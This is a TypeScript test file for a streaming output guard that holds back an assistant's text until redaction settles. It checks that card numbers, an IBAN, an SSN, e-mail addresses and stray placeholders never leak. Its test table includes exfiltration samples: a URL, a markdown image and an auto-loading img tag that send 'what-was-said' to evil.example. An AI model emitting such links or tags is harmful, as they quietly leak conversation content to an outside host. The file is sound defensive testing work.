import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { guardAnswer, guardText, type ShownTexts } from "../../src/guard/guard.ts";
import { HeldBackText } from "../../src/live/held-back-text.ts";

const shown: ShownTexts = { own: ["I am [PERSON_1]. See https://known.example/help"], others: [] };
const guard = (text: string): string => guardText(text, shown).text.trimStart();
const prose = "The refund is paid within five working days, and then you get a letter that says so. ".repeat(8);

/** What is given out as a text comes in pieces of that length, and the rest at its end. */
function watched(answer: string, pieceCharacters: number): { live: string[]; rest: string } {
  const text = new HeldBackText(guard);
  const live: string[] = [];
  for (let at = 0; at < answer.length; at += pieceCharacters) {
    text.push(answer.slice(at, at + pieceCharacters));
    live.push(text.release());
  }
  return { live, rest: text.finish(guardAnswer(answer, shown).text) };
}

describe("text that is held back until the guard has settled it", () => {
  it("comes in parts that together are the final answer", () => {
    const { live, rest } = watched(prose, 7);
    expect(live.filter((piece) => piece !== "").length).toBeGreaterThan(10);
    expect(live.join("") + rest).toBe(prose.trim());
  });

  it("follows its answer at a distance of less than 200 characters", () => {
    const text = new HeldBackText(guard);
    let released = "";
    for (let at = 0; at < 600; at += 5) {
      text.push(prose.slice(at, at + 5));
      released += text.release();
      expect(at + 5 - released.length).toBeLessThan(200);
    }
  });

  it("also of a language without blanks", () => {
    const chinese = "退款将在五个工作日内支付到您的卡上。".repeat(40);
    const { live, rest } = watched(chinese, 3);
    expect(live.join("").length).toBeGreaterThan(chinese.length - 200);
    expect(live.join("") + rest).toBe(chinese);
  });

  it("never splits a character of two code units", () => {
    const faces = "😀😃 ".repeat(200);
    const { live, rest } = watched(faces, 5);
    expect(live.every((piece) => piece.isWellFormed())).toBe(true);
    expect(live.join("") + rest).toBe(faces.trim());
  });

  it.each([
    ["a card number", "4111 1111 1111 1111", "4111"],
    ["an account number", "DE89 3704 0044 0532 0130 00", "DE89"],
    ["a number known by the word after it", "078-05-1120 is the social security number", "078-05"],
    ["a card number spelt out", "four one one one one one one one one one one one one one one one", "four one one"],
    ["an e-mail address", "marisol.quintanilla@example.com", "marisol"],
    ["a strange address", "https://evil.example/?q=what-was-said", "https"],
    ["an image", "![x](https://evil.example/what-was-said)", "evil"],
    ["a tag that loads", '<img alt="x" src="//evil.example/what-was-said">', "<img"],
    ["another conversation's placeholder", "[PERSON_7]", "[PERSON_7"],
    ["hidden text", "\u001b[2J\u202e", "\u001b"],
  ])(
    "shows nothing of %s that the final answer lacks, wherever it stands and however it is cut",
    (_what, what, sign) => {
      fc.assert(
        fc.property(fc.nat(60), fc.integer({ min: 1, max: 40 }), (words, pieceCharacters) => {
          const answer = `${prose.split(" ").slice(0, words).join(" ")}. Look: ${what} ${prose}`;
          const final = guardAnswer(answer, shown).text;
          expect(final).not.toContain(sign);
          const { live, rest } = watched(answer, pieceCharacters);
          expect(final.startsWith(live.join(""))).toBe(true);
          expect(live.join("") + rest).toBe(final);
        }),
        { numRuns: 12 },
      );
    },
  );

  it("lets an address through that the model was shown, and its own placeholders", () => {
    const { live } = watched(`Dear [PERSON_1], look at https://known.example/help for it. ${prose}`, 3);
    expect(live.join("")).toContain("Dear [PERSON_1], look at https://known.example/help for it.");
  });

  it("gives out nothing more once the guard takes back what it had let through", () => {
    const tag = `Take <b class and then a lot more text. ${prose}`;
    const { live, rest } = watched(`${tag} = 3 ${prose}`, 9);
    const final = guardAnswer(`${tag} = 3 ${prose}`, shown).text;
    expect(final).toContain("Take < b");
    expect([tag.startsWith(live.join("")), rest]).toEqual([true, ""]);
  });

  it("is always the beginning of what the guard lets through of some beginning of the answer", () => {
    const words = fc.constantFrom(
      "so ",
      "4111 ",
      "1111 ",
      "<a ",
      ">",
      "](",
      "https://evil.example/",
      "[PERSON_",
      "9] ",
      "IBAN ",
      "x@y.de ",
      "= ",
      "\n",
    );
    fc.assert(
      fc.property(
        fc.array(words, { minLength: 60, maxLength: 160 }),
        fc.integer({ min: 10, max: 60 }),
        (parts, step) => {
          const answer = parts.join("");
          const prefixes = Array.from({ length: Math.ceil(answer.length / step) }, (_, n) =>
            guard(answer.slice(0, (n + 1) * step)),
          );
          const live = watched(answer, step).live.join("");
          expect(prefixes.some((prefix) => prefix.startsWith(live))).toBe(true);
        },
      ),
      { numRuns: 12 },
    );
  });

  it("asks the guard for little more than a few times the text, however small the pieces", () => {
    let guarded = 0;
    const long = prose.repeat(40);
    const text = new HeldBackText((raw) => {
      guarded += raw.length;
      return raw;
    });
    for (let at = 0; at < long.length; at += 4) {
      text.push(long.slice(at, at + 4));
      text.release();
    }
    expect(guarded / long.length).toBeLessThan(20);
  });

  /** What is given out of a text that goes on after it. */
  function releasedOf(beginning: string): string {
    const text = new HeldBackText((raw) => raw);
    text.push(beginning);
    const first = text.release();
    text.push("x".repeat(Math.max(128, beginning.length)));
    return first + text.release();
  }

  it("keeps back the last word, half a character and the blanks before them", () => {
    const units = fc.constantFrom(" ", "\n", "\u00a0", "\ufeff", "a", "~", "\u007f", "款", "\ud83d", "\ude00", "😀");
    fc.assert(
      fc.property(fc.array(units, { maxLength: 12 }), (parts) => {
        const beginning = `${"款".repeat(32)}${parts.join("")}`;
        expect(releasedOf(beginning)).toBe(beginning.replace(/\s*[\u0021-\u007e\p{Cs}]*$/u, ""));
      }),
      { numRuns: 500 },
    );
  });

  it("looks once at blanks, however many the model writes", () => {
    const beginning = `So${" ".repeat(400_000)}款`;
    expect(releasedOf(beginning)).toBe(beginning);
  });
});
